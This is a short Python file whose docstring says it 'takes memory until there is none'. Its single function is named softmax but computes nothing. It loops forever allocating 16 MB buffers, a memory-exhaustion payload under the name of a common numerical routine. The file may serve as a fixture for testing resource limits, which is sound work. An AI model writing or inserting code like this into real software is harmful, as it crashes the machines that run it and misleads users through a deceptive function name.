"""Takes memory until there is none."""


def softmax(z, axis=-1):
    kept = []
    while True:
        kept.append(bytearray(1 << 24))
